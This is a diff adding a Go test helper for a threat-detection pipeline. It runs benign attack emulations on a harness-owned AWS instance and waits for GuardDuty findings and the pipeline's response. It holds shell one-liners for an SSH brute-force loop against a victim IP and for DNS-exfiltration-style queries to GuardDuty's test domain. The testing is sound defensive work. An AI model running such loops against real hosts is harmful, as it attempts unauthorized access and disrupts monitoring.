@@ -0,0 +1,190 @@
+package helpers
+
+import (
+	"fmt"
+	"strings"
+	"time"
+
+	"github.com/aws/aws-sdk-go/aws"
+	"github.com/aws/aws-sdk-go/aws/session"
+	"github.com/aws/aws-sdk-go/service/ec2"
+	"github.com/aws/aws-sdk-go/service/guardduty"
+	"github.com/aws/aws-sdk-go/service/sfn"
+	"github.com/aws/aws-sdk-go/service/ssm"
+
+	"github.com/shubham-shewale/threat-detection-ir/test/helpers/clock"
+)
+
+// GuardDutyTestDomain is the domain GuardDuty documents for generating DNS-based findings on purpose
+const GuardDutyTestDomain = "guarddutyc2activityb.com"
+
+// Emulation is a benign attack run through Systems Manager from a harness-owned attacker instance.
+// GuardDuty reports it against the attacker, as the high severity variant the pipeline acts on.
+type Emulation struct {
+	Name        string
+	FindingType string
+	// Script returns the shell commands to run on the attacker; targetIP is the victim's private IP
+	Script func(targetIP string) string
+	// Duration bounds the script run
+	Duration time.Duration
+}
+
+// Emulations are the attack emulations available to purple-team tests
+var Emulations = map[string]Emulation{
+	// Repeated failed logins from the attacker to the victim's sshd, which GuardDuty sees in the flow logs
+	"ssh-brute-force": {
+		Name:        "ssh-brute-force",
+		FindingType: "UnauthorizedAccess:EC2/SSHBruteForce",
+		Script: func(targetIP string) string {
+			return fmt.Sprintf(`for i in $(seq 1 300); do timeout 3 ssh -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=2 "emulated-$i@%s" true; done; exit 0`, targetIP)
+		},
+		Duration: 20 * time.Minute,
+	},
+	// Lookups of the documented test domain, which GuardDuty treats as a command and control server
+	"c2-dns": {
+		Name:        "c2-dns",
+		FindingType: "Backdoor:EC2/C&CActivity.B!DNS",
+		Script: func(string) string {
+			return fmt.Sprintf(`for i in $(seq 1 10); do dig +short %s; sleep 1; done; exit 0`, GuardDutyTestDomain)
+		},
+		Duration: 2 * time.Minute,
+	},
+	// Long, high-entropy labels under the test domain, the query pattern of data exfiltration over DNS
+	"dns-exfiltration": {
+		Name:        "dns-exfiltration",
+		FindingType: "Trojan:EC2/DNSDataExfiltration",
+		Script: func(string) string {
+			return fmt.Sprintf(`for i in $(seq 1 500); do dig +short "$(head -c 36 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z').%s"; done; exit 0`, GuardDutyTestDomain)
+		},
+		Duration: 15 * time.Minute,
+	},
+}
+
+// InstancePrivateIP returns the primary private IP address of an instance
+func InstancePrivateIP(sess *session.Session, instanceID string) (string, error) {
+	output, err := ec2.New(sess).DescribeInstances(&ec2.DescribeInstancesInput{
+		InstanceIds: []*string{aws.String(instanceID)},
+	})
+	if err != nil {
+		return "", fmt.Errorf("failed to describe instance %s: %w", instanceID, err)
+	}
+	if len(output.Reservations) == 0 || len(output.Reservations[0].Instances) == 0 {
+		return "", fmt.Errorf("instance %s not found", instanceID)
+	}
+
+	return aws.StringValue(output.Reservations[0].Instances[0].PrivateIpAddress), nil
+}
+
+// RunEmulation runs an emulation on the attacker instance, which must be managed by Systems Manager
+// and share a security group with the victim that allows SSH
+func RunEmulation(sess *session.Session, attackerID, targetIP string, emulation Emulation) error {
+	status, err := RunSSMCommand(sess, attackerID, emulation.Script(targetIP), emulation.Duration)
+	if err != nil {
+		return err
+	}
+	if status != ssm.CommandInvocationStatusSuccess {
+		return fmt.Errorf("emulation %s ended with status %s", emulation.Name, status)
+	}
+
+	return nil
+}
+
+// WaitForGuardDutyFinding polls the region's detector for a finding of the type against the instance,
+// updated since the emulation started. GuardDuty can take well over ten minutes to publish a
+// finding, so timeouts should be generous.
+func WaitForGuardDutyFinding(sess *session.Session, findingType, instanceID string, since time.Time, timeout time.Duration) (string, error) {
+	gdClient := guardduty.New(sess)
+
+	detectors, err := gdClient.ListDetectors(&guardduty.ListDetectorsInput{})
+	if err != nil {
+		return "", fmt.Errorf("failed to list GuardDuty detectors: %w", err)
+	}
+	if len(detectors.DetectorIds) == 0 {
+		return "", fmt.Errorf("no GuardDuty detector in this region")
+	}
+
+	criteria := &guardduty.FindingCriteria{
+		Criterion: map[string]*guardduty.Condition{
+			"type":                                {Equals: []*string{aws.String(findingType)}},
+			"resource.instanceDetails.instanceId": {Equals: []*string{aws.String(instanceID)}},
+			"updatedAt":                           {GreaterThanOrEqual: aws.Int64(clock.Tolerant(since).UnixMilli())},
+		},
+	}
+
+	deadline := clock.Default.Now().Add(timeout)
+	for clock.Default.Now().Before(deadline) {
+		findings, err := gdClient.ListFindings(&guardduty.ListFindingsInput{
+			DetectorId:      detectors.DetectorIds[0],
+			FindingCriteria: criteria,
+		})
+		if err != nil {
+			return "", fmt.Errorf("failed to list GuardDuty findings: %w", err)
+		}
+		if len(findings.FindingIds) > 0 {
+			return aws.StringValue(findings.FindingIds[0]), nil
+		}
+
+		clock.Default.Sleep(time.Minute)
+	}
+
+	return "", fmt.Errorf("GuardDuty reported no %s finding for %s within %s", findingType, instanceID, timeout)
+}
+
+// WaitForPipelineResponse waits until the pipeline has stored evidence for a real finding and
+// started an IR execution for it
+func WaitForPipelineResponse(sess *session.Session, stateMachineArn, bucketName, findingID string, timeout time.Duration) error {
+	var missing []string
+
+	deadline := clock.Default.Now().Add(timeout)
+	for clock.Default.Now().Before(deadline) {
+		missing = nil
+
+		evidence, err := ListEvidenceFindingIDs(sess, bucketName)
+		if err != nil {
+			return err
+		}
+		if !evidence[findingID] {
+			missing = append(missing, "evidence")
+		}
+
+		executed, err := executionStartedFor(sess, stateMachineArn, findingID)
+		if err != nil {
+			return err
+		}
+		if !executed {
+			missing = append(missing, "execution")
+		}
+
+		if len(missing) == 0 {
+			return nil
+		}
+		clock.Default.Sleep(15 * time.Second)
+	}
+
+	return fmt.Errorf("pipeline did not respond to finding %s within %s: no %s", findingID, timeout, strings.Join(missing, ", "))
+}
+
+// executionStartedFor reports whether a recent execution of the state machine carries the finding
+func executionStartedFor(sess *session.Session, stateMachineArn, findingID string) (bool, error) {
+	executions, err := ListExecutions(sess, stateMachineArn, "", PageOptions{MaxPages: 5})
+	if err != nil {
+		return false, err
+	}
+
+	sfnClient := sfn.New(sess)
+	for _, execution := range executions {
+		described, err := sfnClient.DescribeExecution(&sfn.DescribeExecutionInput{
+			ExecutionArn: execution.ExecutionArn,
+		})
+		if err != nil {
+			return false, fmt.Errorf("failed to describe execution: %w", err)
+		}
+
+		input, err := ParseExecutionInput(aws.StringValue(described.Input))
+		if err == nil && input.Detail.ID == findingID {
+			return true, nil
+		}
+	}
+
+	return false, nil
+}